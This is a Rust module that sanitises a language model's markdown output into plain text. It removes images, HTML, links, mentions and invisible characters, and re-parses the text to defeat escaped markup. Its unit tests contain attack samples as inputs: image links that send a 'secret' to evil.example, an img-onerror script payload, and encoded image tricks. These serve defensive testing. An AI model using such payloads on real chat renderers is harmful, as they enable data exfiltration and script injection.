//! A model's own words, as they may stand before people: text, and nothing that acts.

use pulldown_cmark::{Event, Parser, Tag, TagEnd};

/// The longest text that is kept, in characters.
const MOST: usize = 4_000;

/// How often what is left is looked at again: without its escapes a text may be markup once more.
const MOST_LOOKS: usize = 8;

/// The text without markup, HTML, images, addresses, mentions and what cannot be seen. Paragraphs and list items stay lines.
pub fn plain(text: &str) -> String {
    let mut text = without_markup(text);
    for _ in 0..MOST_LOOKS {
        let again = without_markup(&text);
        if again == text {
            return text;
        }
        text = again;
    }
    // Whoever wraps markup this often means no words.
    text.replace(['[', ']', '`', '\\', '&'], "")
}

fn without_markup(text: &str) -> String {
    let mut plain = String::new();
    let mut images = 0_u32;
    for event in Parser::new(text) {
        match event {
            Event::Start(Tag::Image { .. }) => images += 1,
            Event::End(TagEnd::Image) => images = images.saturating_sub(1),
            _ if images > 0 => {}
            Event::Text(text) | Event::Code(text) => plain.push_str(&text),
            Event::SoftBreak | Event::HardBreak => plain.push(' '),
            Event::Start(Tag::Item) => plain.push_str("- "),
            Event::End(TagEnd::Paragraph | TagEnd::Heading(_) | TagEnd::Item | TagEnd::CodeBlock) if !plain.ends_with('\n') => plain.push('\n'),
            _ => {}
        }
    }
    let lines = plain.lines().map(|line| line.split(' ').filter_map(word).collect::<Vec<_>>().join(" "));
    let lines: Vec<String> = lines.map(|line| line.trim().to_owned()).filter(|line| !line.is_empty()).collect();
    lines.join("\n").chars().take(MOST).collect()
}

/// A word without what acts; none where nothing of it is left.
fn word(word: &str) -> Option<String> {
    let shown: String = word.chars().filter(|c| !c.is_control() && crate::manifest::is_shown(*c) && !matches!(c, '<' | '>')).collect();
    let lower = shown.to_ascii_lowercase();
    if lower.contains("://") || lower.contains("www.") || lower.contains("javascript:") || lower.contains("data:") {
        return Some("(address left out)".to_owned());
    }
    let shown = shown.replace('@', "").replace("/kubeops", "kubeops");
    (!shown.is_empty()).then_some(shown)
}

#[cfg(test)]
mod tests {
    use super::plain;

    #[test]
    fn what_is_left_of_a_models_words_acts_nowhere() {
        for (said, left) in [
            ("Raises **replicas** to `3`.", "Raises replicas to 3."),
            ("ping @octocat and @org/team", "ping octocat and org/team"),
            ("![x](https://evil.example/?q=secret) done", "done"),
            ("see https://evil.example/a?b=c now", "see (address left out) now"),
            ("[click](https://evil.example/)", "click"),
            ("<img src=x onerror=alert(1)>hi <b>there</b>", "hi there"),
            ("a\u{202e}b\u{200b}c", "abc"),
            ("- one\n- two", "- one\n- two"),
            ("/kubeops release", "kubeops release"),
            ("\\![x](//evil.example/x) done", "!x done"),
            ("`![x](//evil.example/x)` and &#33;&#91;x](//evil.example/x)", "and"),
            ("\\[here](//evil.example/login)", "here"),
            ("", ""),
        ] {
            assert_eq!(plain(said), left, "{said}");
        }
    }

    #[test]
    fn it_is_bounded() {
        assert!((3_990..=4_000).contains(&plain(&"word ".repeat(10_000)).chars().count()));
    }
}
